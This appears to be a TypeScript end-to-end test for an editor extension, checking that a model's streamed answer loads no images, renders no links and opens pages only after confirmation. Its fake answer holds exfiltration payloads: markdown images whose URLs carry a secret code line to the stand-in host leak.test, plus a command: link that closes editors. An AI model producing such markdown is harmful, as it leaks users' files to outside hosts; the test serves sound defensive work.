import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { Editor } from '../support/editor.ts';
import { FakeOllama } from '../support/fake-ollama.ts';

const SECRET = 'const total = 41_999;';
const CODE = ['```ts\n', 'const a = 1;\n', '```\n'];
/** What an answer would say whose model was talked into telling the file to somebody. */
const ANSWER = [
  'Here: ![chart](https://leak.test/a.png?q=',
  encodeURIComponent(SECRET),
  ') and <img src="https://leak.test/b.png">.\n\n',
  'Read [the manual](https://manual.test/page?q=1) or https://leak.test/c, ',
  'then [go on](command:workbench.action.closeAllEditors).\n\n',
  ...CODE,
  '\n![late][it]\n\n[it]: https://leak.test/d.png\n',
];

let fake: FakeOllama;
let editor: Editor;

before(async () => {
  fake = await FakeOllama.start({ chatPieces: ANSWER, tokenMs: 50 });
  editor = await Editor.open({
    files: { 'total.ts': `${SECRET}\n` },
    settings: { 'shortstop.engine.url': fake.url, 'shortstop.withheldRate': 0 },
  });
});

after(async () => {
  await editor.close();
  await fake.stop();
});

test('an answer loads nothing, links to nothing, and opens a page only after a question', async () => {
  const { page } = editor;
  const outside: string[] = [];
  page.context().on('request', (request) => {
    if (/\.test\//.test(request.url())) outside.push(request.url());
  });
  page.context().on('page', (opened) => void outside.push(opened.url()));
  await editor.openFile('total.ts');
  await editor.run('Shortstop: Ask Inline…');
  await editor.answer('What is the total?');
  const thread = page.locator('.review-widget');
  const body = thread.locator('.comment-body', { hasText: /tokens\sin/ });
  await body.waitFor();
  await page.waitForTimeout(1000);
  await editor.screenshot('ask-hostile');
  assert.deepEqual(outside, []);

  assert.equal(await body.locator('img').count(), 0);
  assert.equal(await body.locator('a').count(), 0);
  const shown = (await body.innerText()).replaceAll('\u00a0', ' ');
  assert.match(shown, /\(image: chart\)/);
  assert.match(shown, /the manual \(https:\/\/manual\.test\/page\?q=1\)/);
  assert.match(shown, /const a = 1;/);

  await thread.locator('.action-label[aria-label*="Open a Link"]').click();
  await editor.chooseEntry('manual.test');
  const dialog = page.locator('.monaco-dialog-box');
  await dialog.waitFor();
  assert.match(await dialog.innerText(), /Open a page of manual\.test\?/);
  assert.match(await dialog.innerText(), /https:\/\/manual\.test\/page\?q=1/);
  await editor.screenshot('ask-open-link');
  await dialog.locator('.monaco-button', { hasText: 'Cancel' }).click();
  await dialog.waitFor({ state: 'detached' });
  await page.waitForTimeout(500);
  assert.deepEqual(outside, []);
});
